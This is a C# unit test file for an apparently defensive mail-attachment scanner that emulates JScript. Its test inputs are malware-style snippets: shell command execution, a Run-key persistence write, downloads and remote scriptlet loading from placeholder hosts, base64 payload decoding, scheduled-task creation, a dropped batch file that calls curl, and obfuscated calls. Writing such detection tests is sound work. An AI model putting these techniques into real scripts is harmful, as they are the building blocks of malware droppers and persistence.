using System.Text;
using Lurewatch.Files;
using Lurewatch.Scripts;
using Lurewatch.Scripts.JavaScript;
using Shouldly;
using Xunit;

namespace Lurewatch.Tests.Scripts.JavaScript;

public sealed class ScriptFileTests
{
    private static Analysis Scan(string script) => new MailScanner(new ScanOptions { Strict = true, Limits = new AnalysisLimits { Time = TimeSpan.FromMinutes(1) } }).Scan(Encoding.UTF8.GetBytes("// " + new string('-', 20) + "\nvar shell = new ActiveXObject('WScript.Shell'); function nothing() { return ''.charAt(0); }\n" + script), "invoice.js");

    private static IReadOnlyList<ScriptAction> Actions(string script)
    {
        var root = Scan(script).Root;
        root.Type.ShouldBe(FileType.JavaScript);
        return ((IHasActions)root.Facts!).Actions;
    }

    [Theory]
    [InlineData("shell.Run('calc.exe', 0)", "Run", "calc.exe")]
    [InlineData("shell['R' + 'UN']('%TEMP%\\\\a.exe')", "Run", @"C:\Users\user\AppData\Local\Temp\a.exe")]
    [InlineData("WScript.CreateObject('WScript.Shell').Exec('cmd /c dir')", "Run", "cmd /c dir")]
    [InlineData("new ActiveXObject('Shell.Application').ShellExecute('wscript', 'x.js', '', 'open', 0)", "Run", "wscript x.js")]
    [InlineData("GetObject('winmgmts:{impersonationLevel=impersonate}!\\\\\\\\.\\\\root\\\\cimv2').Get('Win32_Process').Create('notepad', null, null)", "Run", "notepad")]
    [InlineData("shell.RegWrite('HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\a', 'x', 'REG_SZ')", "Registry", @"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\a")]
    [InlineData("var h = new ActiveXObject('msxml2.xmlhttp'); h.OPEN('GET', 'http://a.example/x', 0); h.Send()", "Fetch", "http://a.example/x")]
    [InlineData("new ActiveXObject('WindowsInstaller.Installer').InstallProduct('https://b.example/x.msi')", "Fetch", "https://b.example/x.msi")]
    [InlineData("GetObject('script:https://c.example/x.sct')", "Fetch", "https://c.example/x.sct")]
    [InlineData("var e = new Enumerator(GetObject('winmgmts:').ExecQuery('select * from Win32_OperatingSystem')); for (; !e.atEnd(); e.moveNext()) shell.Run('cmd ' + e.item().Version)", "Run", "cmd 10.0.19044")]
    [InlineData("var b = new ActiveXObject('Msxml2.DOMDocument').createElement('b'); b.dataType = 'bin.base64'; b.text = 'Y2FsYw=='; var s = new ActiveXObject('ADODB.Stream'); s.Type = 1; s.Open(); s.Write(b.nodeTypedValue); s.Position = 0; s.Type = 2; s.Charset = 'us-ascii'; shell.Run(s.ReadText())", "Run", "calc")]
    [InlineData("var s = new ActiveXObject('Schedule.Service'); s.Connect(); var t = s.NewTask(0); var a = t.Actions.Create(0); a.Path = 'cmd'; a.Arguments = '/c x'; s.GetFolder('\\\\').RegisterTaskDefinition('n', t, 6, '', '', 3)", "Run", "cmd /c x")]
    public void What_objects_of_Windows_would_do_is_recorded(string script, string kind, string target) => Actions(script).ShouldContain(action => action.Kind.ToString() == kind && action.Target == target);

    [Fact]
    public void A_file_that_a_script_writes_is_taken_apart()
    {
        var analysis = Scan("var f = new ActiveXObject('Scripting.FileSystemObject').CreateTextFile('C:\\\\Users\\\\Public\\\\go.bat', true); f.WriteLine('@echo off'); f.WriteLine('curl http://bat.example/x'); f.Close();");
        analysis.Artifacts.Count(file => file is { Name: "go.bat", Type: FileType.Batch, Origin: "dropped" }).ShouldBe(1);
    }

    [Fact]
    public void What_is_tried_after_a_download_that_failed_is_seen_too()
    {
        var targets = Actions("var u = ['http://one.example/', 'http://two.example/']; for (var i = 0; i < 2; i++) { var h = WScript.CreateObject('MSXML2.XMLHTTP'); h.open('GET', u[i], 0); h.send(); if (h.status == 200) break; }").Select(action => action.Target);
        targets.ShouldContain("http://one.example/");
        targets.ShouldContain("http://two.example/");
    }

    [Fact]
    public void Code_in_conditional_comments_runs() => Actions("/*@cc_on\n@if (@_jscript)\nshell.Run('seen');\n@end\n@*/").ShouldContain(action => action.Target == "seen");

    [Fact]
    public void A_script_that_does_not_parse_is_read_for_addresses() =>
        Scan("var x = new ActiveXObject('MSXML2.XMLHTTP'); } } var u = 'http://broken.example/';").Indicators.ShouldContain(indicator => indicator.Value == "http://broken.example/");

    [Theory]
    [InlineData("app.launchURL('https://pdf.example/1', true)", "https://pdf.example/1")]
    [InlineData("this.submitForm({ cURL: 'https://pdf.example/2' })", "https://pdf.example/2")]
    [InlineData("app.setTimeOut(\"this.getURL('https://pdf.example/' + String.fromCharCode(51))\", 100)", "https://pdf.example/3")]
    public void Scripts_of_a_document_lead_elsewhere_by_their_viewer(string script, string url) =>
        ScriptEmulator.Run(script, "script.js", FileType.Pdf, new AnalysisBudget(new AnalysisLimits(), TimeProvider.System), "/x").Record.Actions.ShouldContain(action => action.Target == url);

    [Fact]
    public void A_text_under_a_scripts_name_is_that_script() =>
        new MailScanner(new ScanOptions { Strict = true }).Scan("this['WSc' + 'ript']['Cre' + 'ateObject']('WScript.Shell')['Run']('named')"u8.ToArray(), "a.js").Artifacts.ShouldContain(file => file.Origin == "command");
}
